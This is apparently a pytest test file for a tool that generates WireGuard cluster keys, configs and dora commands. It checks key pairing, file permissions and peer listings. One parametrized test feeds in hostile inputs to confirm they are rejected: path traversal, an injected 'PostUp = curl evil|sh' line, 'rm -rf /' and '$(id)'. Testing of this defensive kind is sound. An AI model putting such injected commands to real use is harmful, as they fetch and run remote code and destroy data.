"""``primespeech-mlx cluster-keys``: WireGuard key pairs that match, configs that name every other machine, dora
commands bound to the tunnel address, private keys readable by the owner only, and hostile names and hosts
refused before anything is written (they end up in file names, config files and shell commands)."""

from __future__ import annotations

import base64
import json
import stat

import pytest

pytest.importorskip("cryptography", reason="cryptography (cluster extra) not installed")
from cryptography.hazmat.primitives import serialization  # noqa: E402
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey  # noqa: E402

from dora_primespeech_mlx.cli import main  # noqa: E402
from dora_primespeech_mlx.cluster_keys import INTERFACE, parse_machine, write_cluster  # noqa: E402
from dora_primespeech_mlx.errors import ConfigError  # noqa: E402


def conf(text: str) -> list[dict[str, str]]:
    """Sections of a WireGuard config as dicts (in order)."""
    sections: list[dict[str, str]] = []
    for line in text.splitlines():
        line = line.strip()
        if line.startswith("["):
            sections.append({"section": line})
        elif "=" in line and not line.startswith("#"):
            key, _, value = line.partition("=")
            sections[-1][key.strip()] = value.strip()
    return sections


def public_of(private_b64: str) -> str:
    key = X25519PrivateKey.from_private_bytes(base64.b64decode(private_b64))
    raw = key.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    return base64.b64encode(raw).decode()


def test_three_machines(tmp_path, capsys):
    out = tmp_path / "keys"
    assert main(["cluster-keys", str(out), "--machine", "edge=192.168.1.10", "--machine", "tts=gpu-box.lan",
                 "--machine", "gpu2=fd00::7", "--coordinator", "tts"]) == 0
    summary = json.loads((out / "cluster.json").read_text())
    machines = {m["name"]: m for m in summary["machines"]}
    assert list(machines) == ["edge", "tts", "gpu2"] and summary["coordinator"]["machine"] == "tts"
    assert "private" not in (out / "cluster.json").read_text().lower()
    for name, m in machines.items():
        path = out / name / f"{INTERFACE}.conf"
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        interface, *peers = conf(path.read_text())
        assert public_of(interface["PrivateKey"]) == m["public_key"]  # the pair matches
        assert interface["Address"] == f"{m['tunnel']}/24"
        others = [o for o in machines.values() if o["name"] != name]
        assert [p["PublicKey"] for p in peers] == [o["public_key"] for o in others]
        assert [p["AllowedIPs"] for p in peers] == [f"{o['tunnel']}/32" for o in others]
        assert [p["Endpoint"] for p in peers] == [f"[{o['host']}]:51820" if ":" in o["host"] else f"{o['host']}:51820"
                                                 for o in others]
        script = (out / name / "commands.sh").read_text()
        daemon = next(line for line in script.splitlines() if line.startswith("dora daemon"))
        assert f"--machine-id {name} " in daemon and f"--zenoh-listen {m['tunnel']}:5456" in daemon
        assert f"--coordinator-addr {machines['tts']['tunnel']}" in daemon and "--zenoh-no-multicast" in daemon
        assert all(f"tcp/{o['tunnel']}:5456" in daemon for o in others)
        assert ("dora coordinator --interface" in script) == (name == "tts")
    assert len({m["public_key"] for m in machines.values()}) == 3  # fresh keys per machine
    assert "copy each machine's folder" in capsys.readouterr().out

    assert main(["cluster-keys", str(out), "--machine", "a=1.2.3.4", "--machine", "b=1.2.3.5"]) == 2  # no overwrite
    assert json.loads((out / "cluster.json").read_text()) == summary
    assert main(["cluster-keys", str(out), "--machine", "a=1.2.3.4", "--machine", "b=1.2.3.5", "--force"]) == 0


@pytest.mark.parametrize("text", [
    "../etc=1.2.3.4", "a/b=1.2.3.4", "=1.2.3.4", "edge", "-x=1.2.3.4", "e\ndge=1.2.3.4", "a b=1.2.3.4",
    "edge=1.2.3.4\nPostUp = curl evil|sh", "edge=host;rm -rf /", "edge=$(id)", "edge=", "edge=a..b", "edge=-a.b",
    "x" * 40 + "=1.2.3.4", "edge=" + "a" * 300,
])
def test_hostile_machines_are_refused(text):
    with pytest.raises(ConfigError):
        parse_machine(text)


def test_refusals_write_nothing(tmp_path):
    for machines, kw in [([("a", "1.2.3.4")], {}),  # one machine
                         ([("a", "1.2.3.4"), ("a", "1.2.3.5")], {}),  # twice the same name
                         ([("a", "1.2.3.4"), ("b", "1.2.3.5")], {"coordinator": "c"}),
                         ([("a", "1.2.3.4"), ("b", "1.2.3.5"), ("c", "1.2.3.6")], {"subnet": "10.0.0.0/31"}),
                         ([("a", "1.2.3.4"), ("b", "1.2.3.5")], {"subnet": "fd00::/64"}),
                         ([("a", "1.2.3.4"), ("b", "1.2.3.5")], {"subnet": "10.0.0.1/24"}),
                         ([("a", "1.2.3.4"), ("b", "1.2.3.5")], {"zenoh_port": 70000})]:
        with pytest.raises(ConfigError):
            write_cluster(tmp_path / "out", machines, **kw)
        assert not (tmp_path / "out").exists()
